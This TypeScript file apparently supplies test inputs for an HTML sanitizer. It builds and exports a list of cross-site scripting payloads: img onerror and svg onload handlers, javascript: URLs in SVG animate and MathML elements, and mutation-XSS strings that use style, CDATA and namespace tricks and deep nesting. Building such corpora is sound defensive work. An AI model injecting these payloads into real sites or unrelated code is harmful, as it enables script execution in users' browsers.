import { RUN } from './elements.ts'

const BOOM = `<img src=x onerror=${RUN}>`
const ESCAPED = `&lt;img src=x onerror=${RUN}&gt;`

/** The content of these elements is parsed by other rules. */
const ROOMS = [
  'svg',
  'math',
  'svg><desc',
  'svg><foreignObject',
  'svg><title',
  'math><mtext',
  'math><mi',
  'math><annotation-xml encoding="text/html"',
  'math><annotation-xml encoding="application/xhtml+xml"',
  'math><semantics><annotation',
  'form><math><mtext',
  'table><tr><td><svg><desc',
  'select><option',
  'template',
  'table><caption',
  'svg><style',
  'math><style',
  'noscript',
  'textarea',
  'title',
  'xmp',
  'noembed',
  'noframes',
  'iframe',
  'plaintext',
  'listing',
  'ruby><rtc',
  'p><svg',
  'a><svg',
  'button><svg',
]
const close = (room: string) =>
  room
    .split('><')
    .reverse()
    .map((it) => `</${it.split(' ')[0]}>`)
    .join('')

/** These texts change their meaning when they are read, written and read again. */
const SHIFTS: readonly ((room: string) => string)[] = [
  (room) => `<${room}>${BOOM}${close(room)}`,
  (room) => `<${room}><style><!--</style>${BOOM}--></style>${close(room)}`,
  (room) => `<${room}><p title="${close(room)}${BOOM}">甲</p>${close(room)}`,
  (room) => `<${room}><a title="</style><img src onerror=${RUN}>">乙${close(room)}`,
  (room) => `<${room}>${ESCAPED}${close(room)}`,
  (room) => `<${room}><table><mglyph><style><!--</style><img title="--&gt;${ESCAPED}">${close(room)}`,
  (room) => `<${room}></p><style><a id="</style>${BOOM}">${close(room)}`,
  (room) => `<${room}><![CDATA[<style><img title="]]>${BOOM}">${close(room)}`,
]

const mutated = ROOMS.flatMap((room) => SHIFTS.map((shift) => shift(room)))

const drawn = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>甲</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`,
  `<svg><animate xlink:href="#x" attributeName=href to="javascript:${RUN}"/><a id=x><text>甲</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><image href=x onerror=${RUN}></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  `<svg><discard onbegin=${RUN}></svg>`,
  `<svg><style>*{position:fixed}</style></svg>`,
  `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${RUN}</x:script></svg>`,
  `<math><maction actiontype="statusline#javascript:${RUN}" xlink:href="javascript:${RUN}">甲</maction></math>`,
  `<math><mglyph src="javascript:${RUN}"></math>`,
  `<math><annotation-xml encoding="text/html">${BOOM}</annotation-xml></math>`,
  `<svg></p><style><g title="</style>${BOOM}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${BOOM}`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<svg><p><style><a title="</style>${BOOM}">`,
  `<a><svg><desc><a><![CDATA[</desc>${BOOM}]]></a></desc></svg></a>`,
  `<table><td><table><td><p><svg><title><p>${BOOM}</title></svg>`,
  ...[1, 10, 100, 513].flatMap((deep) => [
    `${'<div>'.repeat(deep)}<table>${'<a>'.repeat(deep)}${BOOM}`,
    `${'<svg><desc>'.repeat(deep)}<style><!--</style>${BOOM}`,
    `${'<b><p>'.repeat(deep)}${BOOM}`,
  ]),
]

/** Lists SVG and MathML, and texts that change when they are read a second time. */
export const NESTED: readonly string[] = [...mutated, ...drawn]
